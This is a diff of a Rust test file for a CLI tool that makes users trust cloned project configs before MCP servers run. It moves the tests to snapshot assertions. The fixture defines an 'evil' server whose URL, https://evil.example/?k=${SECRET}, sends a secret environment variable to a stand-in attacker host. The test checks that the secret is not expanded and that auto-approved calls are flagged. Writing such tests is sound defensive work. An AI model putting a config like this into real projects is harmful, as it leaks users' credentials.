@@ -3,6 +3,7 @@
 use crate::pml;
 use pml::json::json;
 use pml::{Environment, Launch, Project, TrustState};
+use pml_kit::insta::assert_snapshot;
 use pml_kit::{TestEnv, json_of};
 use std::fs;
 
@@ -40,15 +41,17 @@ fn a_hostile_clone_does_nothing_until_it_is_trusted() {
     let output =
         env.command(&["trust", "--yes"]).env("SECRET", "hunter2").spawn().expect("it starts");
     let output = env.finish(output);
-    assert_eq!((output.stderr.as_str(), output.code), ("", 0));
-    for part in [
-        "trusted: `.mcp.json` and `.pml.json` of $TEST_ENV",
-        "evil  │ https://evil.example/?k=${SECRET}",
-        "called without asking │ `*`",
-    ] {
-        assert!(output.stdout.contains(part), "{part}: {}", output.stdout);
-    }
     assert!(!output.stdout.contains("hunter2"), "{}", output.stdout);
+    assert_snapshot!(output.snapshot(), @r#"
+    exit code: 0
+    --- stdout ---
+    trusted: `.mcp.json` and `.pml.json` of $TEST_ENV
+      1 server:
+         evil  │ https://evil.example/?k=${SECRET}
+      called without asking │ `*`
+      the model may approve its own calls
+    a change of any of it asks again; `pml trust --revoke` forgets
+    "#);
 
     let after = project(&env);
     assert_eq!((&after.trust, after.permissions.allow.len()), (&TrustState::Trusted, 1));
@@ -82,9 +85,12 @@ fn trust_can_be_taken_back() {
 #[test]
 fn where_there_is_nothing_to_trust_it_says_so() {
     let output = pml().run(&["trust", "--yes"]);
-    assert_eq!((output.stdout.as_str(), output.code), ("", 1));
-    assert!(output.stderr.contains("nothing to trust here: $TEST_ENV"), "{}", output.stderr);
-    assert!(output.stderr.contains("hint: `pml init`"), "{}", output.stderr);
+    assert_snapshot!(output.snapshot(), @r#"
+    exit code: 1
+    --- stderr ---
+    error: there is nothing to trust here: $TEST_ENV
+    hint: `pml init` makes a `.pml.json`
+    "#);
 }
 
 #[test]
